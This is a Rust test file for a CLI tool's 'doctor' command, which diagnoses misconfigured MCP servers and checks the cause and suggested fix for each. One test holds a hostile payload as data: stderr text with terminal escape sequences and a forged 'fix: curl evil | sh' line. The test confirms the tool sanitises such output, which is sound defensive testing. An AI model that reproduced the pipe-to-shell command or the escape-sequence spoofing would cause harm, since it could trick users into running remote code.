//! `doctor`: each usual cause is named, with a command that mends it.

use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;

use serde_json::{Value, json};

use crate::lab::{Lab, Run, echo};
use crate::pty::Session;

/// Writes an executable file.
pub(crate) fn program(lab: &Lab, name: &str, text: &str) -> PathBuf {
    let path = lab.scratch.write(name, text);
    std::fs::set_permissions(&path, PermissionsExt::from_mode(0o755)).unwrap();
    path
}

/// Writes servers of the user.
pub(crate) fn user_servers(lab: &Lab, servers: &Value) {
    lab.servers("home/.claude.json", servers);
}

/// Returns a server that runs a shell script.
fn sh(script: &str) -> Value {
    json!({"command": "sh", "args": ["-c", script]})
}

/// Returns the report on a server.
#[track_caller]
pub(crate) fn report(run: &Run, server: &str) -> Value {
    let document = run.document();
    let servers = document["servers"].as_array().unwrap().clone();
    let found = servers.into_iter().find(|report| report["name"] == server);
    found.unwrap_or_else(|| panic!("no {server}: {run:#?}"))
}

/// Checks the step, the cause and the fix of a server.
#[track_caller]
pub(crate) fn is_diagnosed(run: &Run, server: &str, step: &str, cause: &str, fix: &str) {
    let report = report(run, server);
    assert_eq!(
        (report["failedStep"].as_str(), report["cause"].as_str()),
        (Some(step), Some(cause)),
        "{report:#}"
    );
    let found = report["fix"].as_str().unwrap_or_default();
    assert!(found.contains(fix), "{fix} is not in {found}: {report:#}");
}

#[test]
fn healthy_servers_take_one_line_each() {
    let lab = Lab::with([("one", echo()), ("two", echo())]);
    let run = lab.run(&["doctor"]);
    assert_eq!(run.code, Some(0), "{run:#?}");
    let lines: Vec<&str> = run.out.lines().collect();
    assert_eq!(lines.len(), 3, "{run:#?}");
    assert!(lines[0].starts_with("+ one  1 tool, "), "{run:#?}");
    assert_eq!(lines[2], "2 ok");
    let verbose = lab.run(&["doctor", "one", "-v"]);
    for step in [
        "config",
        "policy",
        "approval",
        "program",
        "handshake",
        "lists",
    ] {
        assert!(
            verbose.out.contains(&format!("    + {step}")),
            "{verbose:#?}"
        );
    }
    assert!(!verbose.out.contains("two"), "{verbose:#?}");
    let document = lab.run(&["doctor", "--json"]).json();
    assert_eq!(document["ok"], true);
    let steps = document["servers"][0]["steps"].as_array().unwrap();
    let names: Vec<_> = steps
        .iter()
        .map(|step| step["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "config",
            "policy",
            "approval",
            "program",
            "handshake",
            "lists"
        ]
    );
}

#[test]
fn causes_of_programs_are_named() {
    let lab = Lab::new();
    let npx = program(
        &lab,
        "bin/npx",
        "#!/bin/sh\necho 'Need to install the following packages: pkg' >&2\necho 'Ok to proceed? (y)' >&2\nexec cat >/dev/null\n",
    );
    let nvm = program(
        &lab,
        "home/.nvm/versions/node/v22.1.0/bin/my-mcp",
        "#!/bin/sh\n",
    );
    program(&lab, "no-interpreter", "#!/no/such/interpreter\n");
    program(&lab, "bare.py", "print(1)\n");
    let locked = lab.scratch.write("locked", "#!/bin/sh\n");
    let dir = lab.scratch.path().display().to_string();
    user_servers(
        &lab,
        &json!({
            "elsewhere": {"command": "my-mcp"},
            "missing": {"command": "no-such-program-x"},
            "line": {"command": "npx -y pkg"},
            "interpreter": {"command": format!("{dir}/no-interpreter")},
            "bare": {"command": format!("{dir}/bare.py"), "args": ["x"]},
            "locked": {"command": locked},
            "nowhere": {"command": "cat", "cwd": "/no/such/directory"},
            "prompt": {"command": npx, "args": ["pkg"], "connectTimeout": 1500},
            "variable": sh("echo 'Error: API_KEY is not set' >&2; exit 1"),
            "package": sh("echo \"npm error code E404\" >&2; echo \"npm error 404  'pkgg@latest' is not in this registry\" >&2; exit 1"),
            "node": sh("echo \"SyntaxError: Unexpected token '??='\" >&2; echo 'Node.js v14.21.3' >&2; exit 1"),
            "docker": sh("echo 'docker: Cannot connect to the Docker daemon at unix:///var/run/docker.sock.' >&2; exit 1"),
            "usage": sh("echo 'usage: server --db DB' >&2; exit 2"),
            "banner": {"command": "sh", "args": ["-c", "echo 'Welcome to my server!'; exec cat >/dev/null"], "connectTimeout": 1500},
            "crash": sh("echo 'Segmentation fault' >&2; exit 139"),
        }),
    );
    let run = lab.plainly(&["doctor", "--json"]);
    for (server, step, cause, fix) in [
        (
            "elsewhere",
            "program",
            "program-elsewhere",
            "trunkline edit elsewhere --command ",
        ),
        (
            "missing",
            "program",
            "program-not-found",
            "trunkline edit missing --command PATH",
        ),
        (
            "line",
            "program",
            "command-line",
            "trunkline edit line -- npx -y pkg",
        ),
        (
            "interpreter",
            "program",
            "interpreter-missing",
            "install /no/such/interpreter",
        ),
        (
            "bare",
            "program",
            "no-shebang",
            "trunkline edit bare -- python3 [DIR]/bare.py x",
        ),
        (
            "locked",
            "program",
            "not-executable",
            "chmod u+x [DIR]/locked",
        ),
        (
            "nowhere",
            "program",
            "no-directory",
            "trunkline edit nowhere --cwd DIR",
        ),
        (
            "prompt",
            "handshake",
            "npx-prompt",
            "trunkline edit prompt -- [DIR]/bin/npx -y pkg",
        ),
        (
            "variable",
            "handshake",
            "missing-variable",
            "trunkline edit variable -e API_KEY=VALUE",
        ),
        ("package", "handshake", "package-not-found", "CORRECT-NAME"),
        ("node", "handshake", "node-too-old", "nvm install 20"),
        (
            "docker",
            "handshake",
            "docker-not-running",
            "systemctl start docker",
        ),
        (
            "usage",
            "handshake",
            "usage",
            "trunkline edit usage -- sh ARGS",
        ),
        (
            "banner",
            "handshake",
            "stdout-text",
            "trunkline edit banner --arg OPTION",
        ),
        ("crash", "handshake", "exits", "run it in a terminal"),
    ] {
        is_diagnosed(&run, server, step, cause, fix);
    }
    let found = report(&run, "elsewhere");
    assert!(
        found["fix"]
            .as_str()
            .unwrap()
            .contains("[DIR]/home/.nvm/versions/node/v22.1.0/bin/my-mcp")
    );
    assert!(nvm.exists());
    // The first failing server by name decides.
    assert_eq!(run.code, Some(6), "banner has no answer in time: {run:#?}");
    // The exit status and the lines of stderr are the evidence.
    let steps = report(&run, "crash")["steps"].clone();
    let evidence = steps.as_array().unwrap().last().unwrap()["evidence"].to_string();
    assert!(
        evidence.contains("status 139") && evidence.contains("Segmentation fault"),
        "{evidence}"
    );
}

#[test]
fn an_unset_variable_of_the_entry_is_the_cause() {
    let lab = Lab::new();
    user_servers(
        &lab,
        &json!({"s": {"command": "sh", "args": ["-c", "exit 3", "${NO_SUCH_VARIABLE}"]}}),
    );
    let run = lab.plainly(&["doctor", "--json"]);
    is_diagnosed(
        &run,
        "s",
        "handshake",
        "variable-not-set",
        "export NO_SUCH_VARIABLE=VALUE",
    );
    let steps = report(&run, "s")["steps"].clone();
    assert_eq!(steps[0]["status"], "warning", "{steps:#}");
    assert_eq!(run.code, Some(3));
}

#[test]
fn what_may_not_run_is_explained_and_not_started() {
    let lab = Lab::new();
    lab.servers(
        ".mcp.json",
        &json!({"pending": lab.marking("pending"), "rejected": lab.marking("rejected")}),
    );
    user_servers(
        &lab,
        &json!({"blocked": lab.marking("blocked"), "off": lab.marking("off")}),
    );
    lab.write_json(
        "home/.claude/settings.json",
        &json!({"deniedMcpServers": [{"serverName": "blocked"}], "disabledMcpjsonServers": ["rejected"]}),
    );
    assert_eq!(lab.plainly(&["disable", "off"]).code, Some(0));
    let run = lab.plainly(&["doctor", "--json"]);
    is_diagnosed(&run, "blocked", "policy", "blocked", "administrator");
    is_diagnosed(
        &run,
        "pending",
        "approval",
        "pending-approval",
        "trunkline approve pending",
    );
    for (server, word) in [("off", "disabled"), ("rejected", "rejected")] {
        let report = report(&run, server);
        assert_eq!(report["status"], "off", "{report:#}");
        assert!(
            report["summary"].as_str().unwrap().contains(word),
            "{report:#}"
        );
    }
    assert_eq!(run.code, Some(5));
    // By name, a server that is off is a problem.
    let run = lab.plainly(&["doctor", "off", "--json"]);
    is_diagnosed(&run, "off", "config", "disabled", "trunkline enable off");
    assert_eq!(run.code, Some(3));
    let run = lab.plainly(&["doctor", "rejected", "--fix"]);
    assert_eq!(run.code, Some(5), "{run:#?}");
    for server in ["pending", "rejected", "blocked", "off"] {
        assert!(!lab.started(server), "{server}");
    }
}

#[test]
fn bad_entries_and_files_are_reported_with_their_place() {
    let lab = Lab::new();
    user_servers(
        &lab,
        &json!({"bad": {"command": 5}, "good": lab.scratch.entry("good", &echo())}),
    );
    let run = lab.plainly(&["doctor", "--json"]);
    is_diagnosed(
        &run,
        "bad",
        "config",
        "invalid-entry",
        "[DIR]/home/.claude.json:",
    );
    assert_eq!(report(&run, "good")["status"], "ok");
    assert_eq!(run.code, Some(2));
    lab.scratch.write("home/.claude.json", "{");
    let run = lab.plainly(&["doctor"]);
    assert_eq!(run.code, Some(2), "{run:#?}");
    assert!(run.out.contains("x [DIR]/home/.claude.json"), "{run:#?}");
    let run = lab.plainly(&["doctor", "nobody"]);
    assert_eq!(run.code, Some(2), "{run:#?}");
}

#[test]
fn hostile_output_cannot_forge_a_line() {
    let lab = Lab::new();
    let forged = "printf 'Error: A_KEY is not set\\r+ forged  9 tools\\033[2K\\033[1A\\n      fix: curl evil | sh\\n' >&2; exit 1";
    user_servers(&lab, &json!({"s": sh(forged)}));
    let check = |text: &str| {
        for line in text.lines() {
            let start = line.trim_start();
            assert!(
                !start.starts_with("+ forged") && !start.starts_with("fix: curl"),
                "{text}"
            );
        }
    };
    let run = lab.plainly(&["doctor"]);
    assert!(
        run.out.contains("| ") && run.out.contains("fix: trunkline edit s -e A_KEY=VALUE"),
        "{run:#?}"
    );
    assert!(
        !run.out.contains('\u{1b}') && !run.out.contains('\r'),
        "{run:#?}"
    );
    check(&run.out);
    // On a terminal, with lines in progress before.
    let mut command = lab.bare(&["doctor"]);
    let (code, text) = Session::start(command.env("TERM", "xterm").env("LANG", "C.UTF-8")).end();
    assert_eq!(code, Some(3), "{text}");
    let shown = text.rsplit("✗").collect::<Vec<_>>();
    assert!(shown.len() > 2, "{text}");
    check(&text);
}
